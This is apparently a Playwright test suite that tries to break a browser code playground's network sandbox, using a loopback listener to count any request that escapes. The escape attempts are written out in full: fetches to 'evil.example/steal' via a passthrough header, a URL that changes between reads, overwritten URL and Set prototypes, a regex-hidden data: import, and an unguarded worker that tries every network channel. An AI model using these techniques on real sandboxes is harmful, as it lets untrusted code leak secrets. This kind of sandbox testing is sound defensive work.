import net from 'node:net';
import { chromium, expect, test, type Browser, type Page } from '@playwright/test';
import { CLOSED_MACHINE_FLAGS, findChromium } from '../scripts/find-chromium.mjs';
import { openWithCode, PLAYGROUND_PAGE, playground, TENANT_HOST } from './playground-helpers.ts';

/*
 * The sandbox's promise, tried as an attacker would: nothing a reader's code does reaches the
 * network, nothing survives a run, and the page keeps answering. A raw TCP listener on loopback
 * stands for "the network", and this file's own Chromium resolves the mocked tenant's domain,
 * every *.example name and every *.auth0.com name to it: a request that escaped (a passthrough, a
 * closed tab's queue, a fooled guard) lands there instead of failing on DNS, so a test can count
 * it. Every test ends by asking the listener whether anything arrived.
 *
 * Two walls, each enough on its own:
 * - wall 1, the runner: a guarded fetch that sends plain data over a MessagePort to the page;
 * - wall 2, the network: the run worker is a blob: worker, so it inherits the page's CSP.
 * One test removes wall 1 (the run worker's script is replaced by one with no guard at all),
 * one removes wall 2 (the page is served without its CSP), and a control removes both, to show
 * the listener does see a request when nothing stops it.
 */

const TITLE = 'Get a token';
let browser: Browser;
let listener: net.Server;
let port = 0;
const arrivals: string[] = [];

test.describe.configure({ mode: 'serial' });

test.beforeAll(async () => {
  listener = net.createServer((socket) => {
    arrivals.push('a connection');
    socket.on('error', () => undefined);
    // Answer only once the request has arrived, as a server would: a reply sent before it can
    // make the browser drop the connection and call the request failed.
    socket.once('data', (bytes) => {
      arrivals.push(bytes.toString('latin1').slice(0, 120));
      socket.end('HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-type: text/plain\r\ncontent-length: 6\r\nconnection: close\r\n\r\nLEAKED');
    });
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as net.AddressInfo).port;
  const found = await findChromium();
  if (!found) throw new Error('No Chromium for the sandbox tests.');
  const rules = [TENANT_HOST, '*.example', '*.auth0.com'].map((host) => `MAP ${host} 127.0.0.1:${port}`).join(', ');
  browser = await chromium.launch({ executablePath: found.path, args: ['--headless', ...CLOSED_MACHINE_FLAGS, `--host-resolver-rules=${rules}`] });
});

test.afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => listener?.close(resolve));
});

test.beforeEach(() => {
  arrivals.length = 0;
});

async function newPage(): Promise<Page> {
  const context = await browser.newContext({ baseURL: test.info().project.use.baseURL });
  return context.newPage();
}

/** Runs `code` in the Get-a-token playground and waits for the run to end; returns the Output panel. */
async function runInPlayground(page: Page, code: string) {
  await openWithCode(page, 'get-token', code);
  const region = playground(page, TITLE);
  await region.getByRole('button', { name: 'Run' }).click();
  await expect(region.getByRole('button', { name: 'Run' })).toBeEnabled({ timeout: 30_000 });
  await expect(region.getByRole('status')).toHaveText(/Finished|stopped with an error|Stopped after/, { timeout: 30_000 });
  return region.getByRole('log', { name: 'Output' });
}

/** Waits a moment for anything late, then asserts that nothing reached the listener. */
async function expectNothingArrived(waitMs = 1_000): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve, waitMs));
  expect(arrivals, 'what reached the loopback listener').toEqual([]);
}

test('hole 1: a URL that changes between reads, and replaced URL, Request and Set.prototype.has, reach nothing', async () => {
  const page = await newPage();
  const output = await runInPlayground(page, [
    'let reads = 0;',
    `const shifty = { toString: () => (reads++ === 0 ? 'https://${TENANT_HOST}/.well-known/jwks.json' : 'http://127.0.0.1:${port}/shifty') };`,
    'const first = await fetch(shifty as unknown as string);',
    "console.log('shifty', first.status, 'reads', reads);",
    'const g = globalThis as any;',
    `g.URL = class { constructor() { return { href: 'https://${TENANT_HOST}/', host: '${TENANT_HOST}', hostname: '${TENANT_HOST}', protocol: 'https:' }; } };`,
    'g.Request = class { constructor() {} };',
    'Set.prototype.has = () => true;',
    `Object.defineProperty(g.Headers.prototype, 'forEach', { value() {} });`,
    `try { await fetch('http://127.0.0.1:${port}/replaced'); console.log('reached'); } catch (error) { console.log('refused', (error as Error).message); }`,
  ].join('\n'));
  await expect(output).toContainText('shifty 200 reads 1');
  await expect(output).toContainText(`refused [playground] Blocked a request to http://127.0.0.1:${port}`);
  await expectNothingArrived();
});

test('hole 2: MSW\'s passthrough header sends nothing to the network; the tenant answers and the header is gone', async () => {
  const page = await newPage();
  const output = await runInPlayground(page, [
    `const jwks = await fetch('https://${TENANT_HOST}/.well-known/jwks.json', { headers: { accept: 'msw/passthrough' } });`,
    "console.log('jwks', jwks.status, (await jwks.json()).keys.length > 0);",
    `try { await fetch('https://evil.example/steal', { headers: { accept: 'msw/passthrough' } }); } catch (error) { console.log('refused', (error as Error).message); }`,
  ].join('\n'));
  await expect(output).toContainText('jwks 200 true');
  await expect(output).toContainText('refused [playground] Blocked a request to evil.example.');
  const requests = playground(page, TITLE).getByRole('region', { name: 'Requests' });
  await expect(requests).toContainText(`https://${TENANT_HOST}/.well-known/jwks.json`);
  await expect(requests).not.toContainText('msw/passthrough');
  await expectNothingArrived();
});

test('hole 3: closing the tab in the middle of a flood of tenant and token requests lets none of them out', async () => {
  const page = await newPage();
  await openWithCode(page, 'get-token', [
    'const body = JSON.stringify({ grant_type: "client_credentials", client_id: tokenLab.clientId, client_secret: tokenLab.clientSecret, audience: tokenLab.audience });',
    'for (let i = 0; i < 3000; i++) {',
    "  fetch(tokenLab.tokenUrl, { method: 'POST', headers: { 'content-type': 'application/json' }, body }).catch(() => {});",
    `  fetch('https://${TENANT_HOST}/api/v2/clients?page=' + i).catch(() => {});`,
    `  fetch('https://evil.example/' + i).catch(() => {});`,
    '}',
    "console.log('flood sent');",
    'await new Promise(() => {});',
  ].join('\n'));
  const region = playground(page, TITLE);
  await region.getByRole('button', { name: 'Run' }).click();
  // Close while the requests are still being answered: the first ones are listed, most are queued.
  await expect(region.locator('[data-request-list] > li').first()).toBeVisible({ timeout: 30_000 });
  const registrations = await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
  await page.close();
  await expectNothingArrived(3_000);
  // Nothing could have passed them on: the site registers no service worker.
  expect(registrations, 'service workers registered by the site').toBe(0);
});

test('hole 4: a second run finds nothing the first one stored', async () => {
  const page = await newPage();
  const code = [
    'const said: string[] = [];',
    'const attempt = async (name: string, work: () => Promise<unknown>) => {',
    '  try { said.push(`${name}: ${String(await work())}`); } catch (error) { said.push(`${name}: ${(error as Error).message}`); }',
    '};',
    "await attempt('indexedDB', () => new Promise((resolve, reject) => { const open = indexedDB.open('keep', 1); open.onupgradeneeded = () => open.result.createObjectStore('s'); open.onsuccess = () => resolve('opened'); open.onerror = () => reject(open.error); }));",
    "await attempt('opfs', async () => { const root = await navigator.storage.getDirectory(); const names: string[] = []; for await (const name of (root as any).keys()) names.push(name); await root.getFileHandle('kept.txt', { create: true }); return names.length ? `found ${names.join()}` : 'empty'; });",
    "await attempt('caches', () => (self as any).caches.open('kept'));",
    "await attempt('locks', () => navigator.locks.request('kept', () => 'held'));",
    "console.log(said.join(' | '));",
  ].join('\n');
  const first = await runInPlayground(page, code);
  await expect(first).toContainText('indexedDB: [playground] indexedDB is not available. Nothing is kept between runs');
  await expect(first).toContainText('opfs: [playground] navigator.storage is not available.');
  await expect(first).toContainText('locks: [playground] navigator.locks is not available.');
  const region = playground(page, TITLE);
  await region.getByRole('button', { name: 'Run' }).click();
  await expect(region.getByRole('status')).toHaveText(/Finished|stopped/, { timeout: 30_000 });
  await expect(region.getByRole('log', { name: 'Output' })).not.toContainText('found');
  await expect(region.getByRole('log', { name: 'Output' })).toContainText('opfs: [playground] navigator.storage is not available.');
  await expectNothingArrived(0);
});

test('hole 5: 200 refused 1 MB URLs and 1 MB errors are listed cut to size, and Run comes back at once', async () => {
  const page = await newPage();
  await openWithCode(page, 'get-token', [
    "const huge = 'https://evil.example/' + 'a'.repeat(1_000_000);",
    'for (let i = 0; i < 200; i++) fetch(huge + i).catch(() => {});',
    "for (let i = 0; i < 50; i++) console.error(new Error('x'.repeat(1_000_000)));",
    'await new Promise((resolve) => setTimeout(resolve, 300));',
    "console.log('flood done');",
  ].join('\n'));
  const region = playground(page, TITLE);
  await region.getByRole('button', { name: 'Run' }).click();
  // On a loaded 2-core machine the flood itself can outlast the run's 5 s limit: either ending
  // will do, since what is tested is what the page does with it.
  const output = region.getByRole('log', { name: 'Output' });
  await expect(output).toContainText(/flood done|Stopped after 5 s/, { timeout: 30_000 });
  // A run stopped at its time limit may end its worker before the refused requests' records reach
  // the page (the likely cause of two empty lists seen under load, not confirmed), so the list is
  // only required after a finished flood.
  if ((await output.textContent())?.includes('flood done')) {
    await expect.poll(() => region.locator('[data-request-list] > li').count(), { message: 'refused requests listed', timeout: 5_000 }).toBeGreaterThan(0);
  }
  // Today's main kept Run disabled for 45 s after this flood; the page must let go at once.
  await expect(region.getByRole('button', { name: 'Run' })).toBeEnabled({ timeout: 5_000 });
  const longest = await region.locator('[data-request-list] > li').evaluateAll((items) => Math.max(...items.map((item) => item.textContent?.length ?? 0)));
  expect(longest, 'characters in the longest listed request').toBeLessThan(5_000);
  const outputText = await region.getByRole('log', { name: 'Output' }).evaluate((node) => node.textContent?.length ?? 0);
  expect(outputText, 'characters in the Output panel').toBeLessThan(1_000_000);
  await page.getByRole('combobox', { name: 'Select theme' }).selectOption('light');
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'light', { timeout: 2_000 });
  await expectNothingArrived(0);
});

test('hole 6: an import hidden behind a regex the old tokenizer misread is refused, and no data: module runs', async () => {
  const page = await newPage();
  // If the data: module ran, it would print RAN-FROM-A-STRING; its source only has the pieces.
  const output = await runInPlayground(page, "if (true) /'/.test('') ; import('data:text/javascript,console.log(\"RAN\"+\"-FROM-A-STRING\")') //'");
  await expect(output).toContainText("Only 'jose' can be imported here; 'data:text/javascript,console.log(\"RAN\"+\"-FROM-A-STRING\")' is not available.");
  await expect(output).not.toContainText('RAN-FROM-A-STRING');
  await expectNothingArrived(0);
});

// A run worker with no wall 1: the browser's own fetch, XHR, WebSocket, EventSource, import()
// and eval, tried one after the other, each reported as "reached" or "blocked".
const UNGUARDED_WORKER = (listenerPort: number) => `
self.onmessage = async (event) => {
  const { id } = event.data;
  const said = [];
  const attempt = async (name, work) => {
    try { await work(); said.push(name + ': reached'); } catch (error) { said.push(name + ': blocked (' + String(error && error.message || error).slice(0, 80) + ')'); }
  };
  const target = 'http://127.0.0.1:${listenerPort}/';
  const settle = (make) => new Promise((resolve, reject) => { const thing = make(); thing.onload = thing.onopen = resolve; thing.onerror = reject; });
  await attempt('fetch to another origin', () => fetch(target + 'fetch'));
  await attempt('fetch to the tenant, passthrough', () => fetch('https://${TENANT_HOST}/.well-known/jwks.json', { headers: { accept: 'msw/passthrough' } }));
  await attempt('fetch to a mapped name', () => fetch('https://evil.example/'));
  await attempt('XMLHttpRequest', () => settle(() => { const xhr = new XMLHttpRequest(); xhr.open('GET', target + 'xhr'); xhr.send(); return xhr; }));
  await attempt('WebSocket', () => settle(() => new WebSocket('ws://127.0.0.1:${listenerPort}/ws')));
  await attempt('EventSource', () => settle(() => new EventSource(target + 'events')));
  await attempt('import() from another origin', () => import(target + 'module.js'));
  await attempt('import() of a data: module', () => import('data:text/javascript,export default 1'));
  await attempt('eval', () => eval('1'));
  self.postMessage({ type: 'log', id, level: 'log', values: [{ kind: 'string', value: said.join('\\n') }] });
  self.postMessage({ type: 'done', id });
};`;

async function withoutWallOne(page: Page): Promise<void> {
  await page.route(/\/_astro\/run-worker-[^/]+\.js$/, (route) => route.fulfill({ contentType: 'text/javascript', body: UNGUARDED_WORKER(port) }));
}

async function withoutWallTwo(page: Page): Promise<void> {
  await page.route((url) => url.pathname === PLAYGROUND_PAGE, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(/<meta http-equiv="content-security-policy"[^>]*>/i, '');
    await route.fulfill({ response, body });
  });
}

const ATTEMPTS = ['fetch to another origin', 'fetch to the tenant, passthrough', 'fetch to a mapped name', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'import() from another origin', 'import() of a data: module', 'eval'];

test('wall 2 alone: with the run worker\'s guard gone, the page\'s CSP, inherited by the blob: worker, stops every way out', async () => {
  const page = await newPage();
  await withoutWallOne(page);
  const output = await runInPlayground(page, 'export {};');
  for (const attempt of ATTEMPTS) await expect(output).toContainText(`${attempt}: blocked`);
  await expectNothingArrived();
});

test('wall 1 alone: on a page served without its CSP, the runner still refuses every way out', async () => {
  const page = await newPage();
  await withoutWallTwo(page);
  const output = await runInPlayground(page, [
    'const said: string[] = [];',
    'const attempt = async (name: string, work: () => unknown) => {',
    "  try { await work(); said.push(`${name}: reached`); } catch (error) { said.push(`${name}: ${String((error as Error).message).slice(0, 60)}`); }",
    '};',
    `const target = 'http://127.0.0.1:${port}/';`,
    "await attempt('fetch', () => fetch(target + 'fetch'));",
    `await attempt('passthrough', () => fetch('https://evil.example/', { headers: { accept: 'msw/passthrough' } }));`,
    `let reads = 0; const shifty = await fetch({ toString: () => (reads++ ? target : 'https://${TENANT_HOST}/.well-known/jwks.json') } as unknown as string);`,
    "said.push(`shifty: answered ${shifty.status} after ${reads} read`);",
    "await attempt('xhr', () => new XMLHttpRequest());",
    "await attempt('ws', () => new WebSocket('ws://127.0.0.1:1/'));",
    "await attempt('eventsource', () => new EventSource(target));",
    "await attempt('eval', () => eval('1'));",
    "await attempt('function', () => new Function('return 1')());",
    "await attempt('blob', () => URL.createObjectURL(new Blob(['export default 1'])));",
    "await attempt('worker', () => new Worker(target));",
    "console.log(said.join('\\n'));",
  ].join('\n'));
  await expect(page.locator('meta[http-equiv="content-security-policy"]')).toHaveCount(0);
  const text = (await output.textContent()) ?? '';
  expect(text).not.toContain(': reached');
  for (const name of ['fetch', 'passthrough', 'xhr', 'ws', 'eventsource', 'eval', 'function', 'blob', 'worker']) expect(text).toContain(`${name}: [playground]`);
  expect(text).toContain('shifty: answered 200 after 1 read');
  await expectNothingArrived();
});

test('control: with both walls gone the listener does see the request, so the tests above can tell', async () => {
  const page = await newPage();
  await withoutWallOne(page);
  await withoutWallTwo(page);
  const output = await runInPlayground(page, 'export {};');
  await expect(output).toContainText('import() of a data: module: reached');
  await expect(output).toContainText('eval: reached');
  // The mapped names' TLS handshakes (and more) reach the listener when nothing stops them.
  await expect.poll(() => arrivals.length).toBeGreaterThan(0);
});
